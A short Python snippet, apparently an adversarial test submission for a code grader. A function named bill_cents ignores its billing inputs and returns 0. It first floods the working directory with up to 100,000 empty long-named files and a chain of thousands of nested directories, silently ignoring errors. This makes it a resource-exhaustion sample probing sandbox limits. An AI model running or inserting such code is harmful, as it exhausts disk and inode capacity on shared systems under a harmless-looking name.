"""Files without content, folders within folders, names as long as they may be."""
# loses: check_bill_cents
# %% bill_cents
import os
def bill_cents(plan, dishes):
    try:
        for n in range(100_000):
            open("x" * 200 + str(n), "w").close()
    except OSError:
        pass
    try:
        for _ in range(3000):
            os.mkdir("deep" * 50)
            os.chdir("deep" * 50)
    except OSError:
        pass
    return 0
